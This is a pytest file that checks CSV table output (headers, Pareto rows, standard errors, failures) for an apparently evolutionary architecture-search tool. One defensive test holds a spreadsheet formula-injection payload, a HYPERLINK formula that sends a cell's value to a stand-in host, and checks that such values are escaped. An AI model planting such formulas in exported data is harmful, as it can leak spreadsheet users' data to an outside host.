"""Tables: the documented header, one row per candidate, equal bytes for equal runs."""

import csv
from dataclasses import replace
from pathlib import Path

import pytest

from evonas.evaluation.record import Evaluation
from evonas.report.tables import columns, write_tables
from evonas.study.results.confirmed import Confirmed
from tests.known_candidates import candidates

GENOME = "|none~0|+|none~0|none~1|+|skip_connect~0|none~1|none~2| @ fa -*3"


def told(key: str, acc: float, params: int, failure: str | None = None) -> Evaluation:
    values = {"params": params, "flops": 7, "bio": 1.0} | ({} if failure else {"acc": acc})
    return Evaluation(key, GENOME, values, {"fa": params}, (1.0,), 3, 0.5, 2**62 + 1, failure)


TOLD = [
    told("aa", 0.1 + 0.2, 90), told("bb", 0.9, 80), told("cc", 0.2, 95),
    told("dd", 0.0, 70, "diverged: at once"), told("ee", 0.5, 10),
]  # fmt: skip


def write(
    folder: Path, told: list[Evaluation], objectives: list[str], *, replicates: str = "1"
) -> None:
    write_tables(folder, candidates(told, objectives, replicates=replicates), objectives)


def rows(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file))


FORMULA = '=HYPERLINK("http://x/?"&A1)'


def test_forged_texts_are_no_formulas(tmp_path: Path) -> None:
    """A hash is no signature: a run from someone else may hold any text as a genome."""
    forged = [
        replace(told("aa", -0.5, 90), genome=FORMULA),
        replace(told("bb", 0.0, 70, "@SUM(1+1)"), genome="-1+1"),
    ]
    write(tmp_path, forged, ["acc", "params"])
    found = {row["key"]: row for row in rows(tmp_path / "candidates.csv")}
    assert [found[key]["genome"] for key in ("aa", "bb")] == [f"'{FORMULA}", "'-1+1"]
    assert found["aa"]["acc"] == "-0.5"  # a number is none
    assert rows(tmp_path / "pareto.csv")[0]["genome"] == f"'{FORMULA}"
    assert rows(tmp_path / "failures.csv")[0]["failure"] == "'@SUM(1+1)"


def test_table_columns_match_documented_header() -> None:
    assert columns(["acc", "robust"]) == [
        "key", "genome", "acc", "robust", "params", "flops", "bio", "epochs", "seconds", "seed",
        "acc_se", "robust_se", "acc_mean", "robust_mean", "replicates", "collapsed", "p_front",
    ]  # fmt: skip
    assert columns(["params", "acc"])[:10] == [
        "key", "genome", "params", "acc", "flops", "bio", "epochs", "seconds", "seed", "params_se",
    ]  # fmt: skip


def test_pareto_csv_has_front_and_candidates_csv_everything(tmp_path: Path) -> None:
    write(tmp_path, TOLD, ["acc", "params"])
    assert [row["key"] for row in rows(tmp_path / "pareto.csv")] == ["bb", "ee"]
    assert [row["key"] for row in rows(tmp_path / "candidates.csv")] == [e.key for e in TOLD]


def test_table_values_round_trip_exactly(tmp_path: Path) -> None:
    write(tmp_path, TOLD, ["acc", "params"])
    first = rows(tmp_path / "candidates.csv")[0]
    assert float(first["acc"]) == 0.1 + 0.2
    assert (first["params"], first["flops"], first["epochs"]) == ("90", "7", "3")
    assert int(first["seed"]) == 2**62 + 1
    assert first["genome"] == GENOME


def test_failure_has_empty_cell_and_listed_reason(tmp_path: Path) -> None:
    write(tmp_path, TOLD, ["acc", "params"])
    failed = rows(tmp_path / "candidates.csv")[3]
    assert (failed["acc"], failed["params"]) == ("", "70")
    assert rows(tmp_path / "failures.csv") == [
        {"key": "dd", "genome": GENOME, "replicate": "0", "failure": "diverged: at once"}
    ]


def test_tables_of_equal_runs_differ_only_in_seconds(tmp_path: Path) -> None:
    for name, seconds in (("one", 0.5), ("two", 9.0)):
        (tmp_path / name).mkdir()
        again = [replace(e, seconds=seconds) for e in TOLD]
        write(tmp_path / name, again, ["acc", "params"])
    for table in ("pareto.csv", "candidates.csv"):
        one, two = (rows(tmp_path / name / table) for name in ("one", "two"))
        assert one != two
        assert [row | {"seconds": ""} for row in one] == [row | {"seconds": ""} for row in two]


def test_seconds_are_rounded_to_milliseconds(tmp_path: Path) -> None:
    write(tmp_path, [replace(TOLD[1], seconds=1.23456)], ["acc"])
    assert rows(tmp_path / "pareto.csv")[0]["seconds"] == "1.235"
    assert not (tmp_path / "failures.csv").exists()


def test_study_without_front_still_writes_header(tmp_path: Path) -> None:
    write(tmp_path, [TOLD[3]], ["acc"])
    header = ",".join([*columns(["acc"]), "ties"])
    assert (tmp_path / "pareto.csv").read_text().strip() == header


def twice(key: str, *accuracies: float) -> list[Evaluation]:
    """Trainings of one network, on 100 images."""
    return [
        replace(told(key, acc, 10), replicate=number, num_images={"acc": 100}, learned=acc)
        for number, acc in enumerate(accuracies)
    ]


def test_tables_report_standard_errors_and_replicate_counts(tmp_path: Path) -> None:
    trainings = [*twice("aa", 0.8, 0.6), *twice("bb", 0.7, 0.7, 0.1)]
    write(tmp_path, trainings, ["acc"], replicates="2")
    first, second = rows(tmp_path / "candidates.csv")
    assert float(first["acc"]) == float(first["acc_mean"]) == pytest.approx(0.7)
    # scatter .02 over 2 degrees of freedom in all, two trainings; then 100 images
    assert float(first["acc_se"]) == pytest.approx((0.01 / 2 + 0.7 * 0.3 / 100) ** 0.5)
    assert (first["replicates"], first["collapsed"]) == ("2", "0")
    assert float(second["acc"]) == pytest.approx(0.7)
    assert (second["replicates"], second["collapsed"]) == ("3", "1")
    assert float(first["p_front"]) + float(second["p_front"]) == pytest.approx(1.0)
    assert [row["ties"] for row in rows(tmp_path / "pareto.csv")] == ["bb", "aa"]


def test_confirmed_values_are_added_to_candidate_row(tmp_path: Path) -> None:
    fresh = Confirmed("bb", 3, 1, {"acc": 0.85, "test_acc": 0.8}, {"acc": 0.01, "test_acc": None})
    made = candidates(TOLD, ["acc", "params"])
    write_tables(tmp_path, made, ["acc", "params"], {"bb": fresh})
    best, other = rows(tmp_path / "pareto.csv")
    assert (best["confirmations"], best["confirmed_collapsed"]) == ("3", "1")
    assert (best["confirmed_acc"], best["confirmed_acc_se"]) == ("0.85", "0.01")
    assert (best["test_acc"], best["test_acc_se"]) == ("0.8", "")
    assert (other["confirmations"], other["confirmed_acc"]) == ("", "")
    assert [row["test_acc"] for row in rows(tmp_path / "candidates.csv")].count("0.8") == 1
